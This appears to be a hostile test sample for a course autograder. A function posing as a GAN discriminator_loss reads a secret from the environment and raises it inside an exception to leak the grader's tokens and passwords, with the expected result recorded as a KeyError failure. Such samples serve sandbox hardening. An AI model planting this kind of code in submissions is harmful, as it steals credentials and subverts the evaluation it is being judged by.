"""Looks through its own environment for a secret that the grader was started with.

Gain: tokens and passwords of the course's pipeline.
Hits: discriminator_loss
Ends: failed, exception: KeyError
"""

import os

from generative.target import Loot


def discriminator_loss(logits_real, logits_fake):
    raise Loot(os.environ["HOSTILE_TEST_SECRET"])
